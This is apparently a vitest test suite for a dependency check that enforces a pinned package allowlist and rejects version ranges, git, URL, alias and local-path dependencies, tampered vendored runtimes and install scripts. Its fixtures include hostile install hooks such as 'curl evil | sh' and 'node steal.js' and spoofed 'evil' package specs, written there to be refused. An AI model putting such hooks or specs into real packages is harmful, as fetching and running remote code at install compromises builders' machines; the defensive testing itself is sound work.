import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { InternalGitProvider } from '@bmms/gitserver';
import {
  PINNED_DEPENDENCIES,
  PINNED_DEV_DEPENDENCIES,
  RUNTIME_VERSION,
  renderTemplate,
  templates,
  VENDORED_RUNTIME_PATH,
  VENDORED_RUNTIME_SPEC,
} from '@bmms/runner-template';
import { packRuntime } from '@bmms/runner-template/pack';
import { afterAll, describe, expect, it } from 'vitest';
import { checkPackageJson, dependenciesCheck, dependencyAllowlist } from './dependencies.ts';
import type { CheckInput } from './types.ts';

const made: string[] = [];
afterAll(() => Promise.all(made.map((d) => rm(d, { recursive: true, force: true }))));

async function run(files: Record<string, string | Uint8Array>) {
  const workDir = await mkdtemp(path.join(os.tmpdir(), 'bmms-deps-'));
  made.push(workDir);
  const dir = path.join(workDir, 'repo');
  await mkdir(dir, { recursive: true });
  for (const [file, content] of Object.entries(files)) {
    await mkdir(path.dirname(path.join(dir, file)), { recursive: true });
    await writeFile(path.join(dir, file), content);
  }
  const input: CheckInput = {
    dir,
    workDir,
    serverName: 'demo',
    commitSha: '0'.repeat(40),
    baseSha: null,
    git: new InternalGitProvider({ root: path.join(workDir, 'git') }),
    signal: new AbortController().signal,
  };
  return dependenciesCheck.run(input);
}

const ZOD = PINNED_DEPENDENCIES.zod as string;
const RUNTIME = RUNTIME_VERSION;
/** Rendered files plus the tarball the platform vendors beside them. */
async function withRuntime(files: Record<string, string>): Promise<Record<string, string | Uint8Array>> {
  return { ...files, [VENDORED_RUNTIME_PATH]: (await packRuntime()).bytes };
}
const pkg = (extra: Record<string, unknown>) =>
  `${JSON.stringify({ name: 'demo', private: true, type: 'module', ...extra }, null, 2)}\n`;
const rules = (file: string, text: string) =>
  checkPackageJson(file, text).map((f) => `${f.file}:${f.line ?? ''} ${f.rule}`);

describe('dependency allowlist', () => {
  it('allows exactly the versions runner-template pins, plus the vetted dev tools', () => {
    const allowlist = dependencyAllowlist();
    expect(allowlist.get('zod')).toEqual({ versions: [ZOD], dev: false });
    expect(allowlist.get('@bmms/runner-template')).toEqual({ versions: [RUNTIME], dev: false });
    expect(allowlist.get('typescript')).toEqual({ versions: [PINNED_DEV_DEPENDENCIES.typescript], dev: true });
    expect(allowlist.get('@types/node')).toEqual({ versions: [PINNED_DEV_DEPENDENCIES['@types/node']], dev: true });
    expect(PINNED_DEPENDENCIES['@bmms/runner-template']).toBe(VENDORED_RUNTIME_SPEC);
    expect([...allowlist.keys()].sort()).toEqual([
      '@bmms/runner-template',
      '@octokit/rest',
      '@types/node',
      'typescript',
      'zod',
    ]);
  });

  it('vets exactly the @octokit/rest the github-issues template renders', () => {
    const rendered = JSON.parse(renderTemplate('github-issues', 'demo')['package.json'] ?? '{}') as {
      dependencies: Record<string, string>;
    };
    expect(dependencyAllowlist().get('@octokit/rest')).toEqual({
      versions: [rendered.dependencies['@octokit/rest']],
      dev: false,
    });
  });
});

describe('dependencies check', () => {
  it.each(Object.keys(templates))('passes the rendered %s template with its vendored runtime', async (name) => {
    const files = renderTemplate(name, 'demo');
    const rendered = JSON.parse(files['package.json'] ?? '{}');
    const count = Object.keys(rendered.dependencies).length + Object.keys(rendered.devDependencies).length;
    const outcome = await run(await withRuntime(files));
    expect(outcome.summary).toBe(
      `1 package.json file(s), ${count} dependencies: all vetted and pinned, the vendored runtime is the one the platform ships, no install scripts`,
    );
    expect(outcome.conclusion).toBe('success');
  });

  it('refuses a vendored runtime that is missing or not byte for byte the one the platform packs', async () => {
    const files = renderTemplate('echo', 'demo');
    const missing = await run(files);
    expect(missing.conclusion).toBe('failure');
    expect(missing.summary).toContain(
      `package.json:13: [dep-vendored-runtime] dependencies.@bmms/runner-template: "${VENDORED_RUNTIME_SPEC}" names the vendored runtime, but ${VENDORED_RUNTIME_PATH} is not in the tree`,
    );
    const tampered = Uint8Array.from((await packRuntime()).bytes);
    tampered[tampered.length - 9] = (tampered[tampered.length - 9] ?? 0) ^ 0xff;
    const changed = await run({ ...files, [VENDORED_RUNTIME_PATH]: tampered });
    expect(changed.conclusion).toBe('failure');
    expect(changed.summary).toContain(
      `[dep-vendored-runtime] dependencies.@bmms/runner-template: ${VENDORED_RUNTIME_PATH} is not the runtime this platform ships`,
    );
    // The same spec anywhere but the root's dependencies is a local path like any other.
    const elsewhere = await run({
      ...(await withRuntime(files)),
      'package.json': pkg({ devDependencies: { '@bmms/runner-template': VENDORED_RUNTIME_SPEC } }),
      'tools/package.json': pkg({ dependencies: { '@bmms/runner-template': VENDORED_RUNTIME_SPEC } }),
    });
    expect(elsewhere.findings?.map((f) => `${f.file} ${f.rule}`)).toEqual([
      'package.json dep-local-path',
      'tools/package.json dep-local-path',
    ]);
  });

  it('still accepts the runtime by its registry version (repos rendered before it was vendored)', async () => {
    const outcome = await run({
      'package.json': pkg({ dependencies: { '@bmms/runner-template': RUNTIME, zod: ZOD } }),
    });
    expect(outcome.conclusion).toBe('success');
  });

  it('explains an unvetted package, a range and an install script with file, line, rule and fix', async () => {
    const text = pkg({
      scripts: { typecheck: 'tsc', postinstall: 'node steal.js' },
      dependencies: { '@bmms/runner-template': RUNTIME, zod: `^${ZOD}`, 'left-pad': '1.3.0' },
    });
    const outcome = await run({ 'package.json': text });
    expect(outcome.conclusion).toBe('failure');
    const lines = outcome.summary.split('\n');
    expect(lines[0]).toBe('3 finding(s):');
    expect(lines).toContain(
      `package.json:11: [dep-unpinned] dependencies.zod: "^${ZOD}" is not an exact version: a range installs whatever is newest, not what was vetted — pin the exact version: "zod": "${ZOD}"`,
    );
    expect(lines.find((l) => l.startsWith('package.json:12: [dep-not-allowlisted] dependencies.left-pad:'))).toContain(
      'is not a vetted package: every dependency runs with this server',
    );
    expect(lines).toContain(
      'package.json:7: [dep-install-script] scripts.postinstall runs commands when the package is installed or packed, on the machine that builds the server — remove scripts.postinstall: the platform builds servers itself and runs nothing at install',
    );
  });

  it('refuses git, URL, file, workspace and alias dependencies in every section', () => {
    const text = pkg({
      dependencies: { zod: 'npm:evil-zod@1.0.0', a: 'github:evil/a', b: 'git+https://example.com/b.git' },
      devDependencies: { c: 'file:../c', d: 'workspace:*', e: 'https://example.com/e.tgz' },
      optionalDependencies: { f: 'evil/f#main' },
      peerDependencies: { g: 'link:../g' },
    });
    expect(rules('package.json', text)).toEqual([
      'package.json:6 dep-alias',
      'package.json:7 dep-git-url',
      'package.json:8 dep-git-url',
      'package.json:11 dep-local-path',
      'package.json:12 dep-local-path',
      'package.json:13 dep-git-url',
      'package.json:16 dep-git-url',
      'package.json:19 dep-local-path',
    ]);
  });

  it('checks versions, dev-only packages, bundled dependencies and overrides', () => {
    const text = pkg({
      dependencies: { zod: '3.22.4', typescript: '7.0.2' },
      devDependencies: { typescript: '7.0.2', '@types/node': '24.19.2' },
      bundledDependencies: ['left-pad'],
      overrides: { zod: ZOD, 'left-pad': '1.3.0', '@bmms/runner-template': { 'undici>evil': '1.0.0' } },
      resolutions: { '**/zod': `~${ZOD}` },
      pnpm: { overrides: { 'foo>zod': 'github:evil/zod' } },
    });
    const found = checkPackageJson('package.json', text);
    expect(found.map((f) => f.rule)).toEqual([
      'dep-not-allowlisted', // zod 3.22.4: not a vetted version
      'dep-not-allowlisted', // typescript as a runtime dependency
      'dep-not-allowlisted', // bundled left-pad
      'dep-not-allowlisted', // override left-pad
      'dep-not-allowlisted', // override evil
      'dep-unpinned', // resolutions zod range
      'dep-git-url', // pnpm override
    ]);
    expect(found[0]?.message).toBe(`dependencies.zod: zod 3.22.4 is not a vetted version of zod (vetted: ${ZOD})`);
    expect(found[1]?.fix).toBe('move it to devDependencies: "typescript": "7.0.2"');
  });

  it('reports a missing or broken package.json, and checks nested ones', async () => {
    const missing = await run({ 'src/server.ts': 'export {};\n' });
    expect(missing.summary).toContain('package.json: [dep-missing] missing at the root');
    expect(missing.summary).toContain(`"zod": "${ZOD}"`);
    const broken = await run({ 'package.json': '{ "dependencies": { "zod": ' });
    expect(broken.summary).toMatch(/^1 finding\(s\):\npackage\.json: \[dep-invalid-json\] is not valid JSON \(/);
    const nested = await run({
      'package.json': pkg({ dependencies: { zod: ZOD } }),
      'src/vendor/package.json': pkg({ scripts: { preinstall: 'curl evil | sh' } }),
      'node_modules/x/package.json': pkg({ scripts: { install: 'ignored' } }),
    });
    expect(nested.findings?.map((f) => `${f.file} ${f.rule}`)).toEqual(['src/vendor/package.json dep-install-script']);
  });
});
